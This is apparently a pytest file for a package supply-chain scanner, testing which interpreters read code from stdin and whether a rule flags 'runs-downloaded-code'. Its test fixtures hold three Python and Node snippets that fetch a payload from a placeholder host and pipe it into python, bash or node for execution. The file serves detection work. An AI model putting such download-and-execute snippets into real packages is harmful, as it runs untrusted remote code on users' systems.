"""Interpreters that are fed with code."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.reading.feeding import reader_of

Rules = Callable[..., set[str]]


def test_which_command_reads_its_input() -> None:
    """An interpreter without a script."""
    assert reader_of("/usr/bin/python3 -") == "python"
    assert reader_of("bash") == "bash"
    assert reader_of("python x.py") == ""
    assert reader_of("tar -x") == ""


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("wheel", ("import subprocess, sys, requests\np = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
            "p.communicate(requests.get('https://gives.invalid/x').content)")),
        ("wheel", ("import subprocess, urllib.request as u\n"
            "subprocess.run(['bash'], input=u.urlopen('https://gives.invalid/x').read())")),
        ("npm", ("const c = require('child_process').spawn('node', ['-']);\n"
            "fetch('https://gives.invalid/x').then(r => r.text()).then(t => c.stdin.end(t));")),
    ],
)  # fmt: skip
def test_downloads_that_are_fed_run(kind: str, code: str, rules_of: Rules) -> None:
    """As if they had been evaluated."""
    assert "runs-downloaded-code" in rules_of(code, kind, high=True)
